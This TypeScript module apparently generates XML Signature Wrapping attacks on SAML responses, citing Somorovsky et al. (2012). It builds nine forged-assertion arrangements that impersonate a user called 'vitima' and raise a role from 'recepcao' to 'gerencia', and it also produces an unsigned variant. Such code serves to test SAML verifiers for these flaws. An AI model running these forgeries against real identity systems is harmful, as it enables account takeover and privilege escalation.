/** Parts of an answer in which the assertion is signed, as text: attacks put them together otherwise. */
type Parts = {
  /** What stands before the assertion, and after it. */
  readonly head: string;
  readonly tail: string;
  readonly signed: string;
  readonly signature: string;
  /** The assertion as it was before it was signed. */
  readonly bare: string;
};

function partsOf(xml: string): Parts {
  const [signed = ''] = /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml) ?? [];
  const [signature = ''] = /<(?:ds:)?Signature.*<\/(?:ds:)?Signature>/s.exec(signed) ?? [];
  const [head = '', tail = ''] = xml.split(signed);
  return { head, tail, signed, signature, bare: signed.replace(signature, '') };
}

/** The assertion as the attacker would like it: for another subject. */
function forged({ bare }: Parts, isSameId: boolean): string {
  const evil = bare
    .replace(/<saml:NameID([^>]*)>[^<]*</, '<saml:NameID$1>vitima<')
    .replaceAll('recepcao', 'gerencia');
  return isSameId ? evil : evil.replace(/ ID="[^"]*"/, ' ID="_forged"');
}

function within(assertion: string, inner: string): string {
  return assertion.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);
}

function withObject(signature: string, inner: string): string {
  return signature.replace(/<\/((?:ds:)?)Signature>$/, '<$1Object>' + inner + '</$1Object></$1Signature>');
}

const extensions = (inner: string): string => `<samlp:Extensions>${inner}</samlp:Extensions>`;

/**
 * Ways to wrap a signed assertion around or beside a forged one, so that one part of a program verifies the signature and
 * another reads the forgery (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012).
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  'before the signed one': wrap((p) => forged(p, false) + p.signed),
  'after the signed one': wrap((p) => p.signed + forged(p, false)),
  'around the signed one': wrap((p) => within(forged(p, false), p.signed)),
  'with the signature, around the original': wrap((p) => within(forged(p, false), p.signature + p.bare)),
  'with the original in an object of the signature': wrap((p) =>
    within(forged(p, false), withObject(p.signature, p.bare)),
  ),
  'with the original in extensions': wrap((p) => extensions(p.signed) + forged(p, false)),
  'with the signature, and the original in extensions': wrap(
    (p) => extensions(p.bare) + within(forged(p, false), p.signature),
  ),
  'of the same id, with the original in extensions': wrap(
    (p) => extensions(p.bare) + within(forged(p, true), p.signature),
  ),
  'of the same id, with the original in an object of the signature': wrap((p) =>
    within(forged(p, true), withObject(p.signature, p.bare)),
  ),
};

function wrap(arrange: (parts: Parts) => string): (xml: string) => string {
  return (xml) => {
    const parts = partsOf(xml);
    return parts.head + arrange(parts) + parts.tail;
  };
}

/** The answer with the signature of its assertion taken away. */
export const unsigned = wrap(({ bare }) => bare);
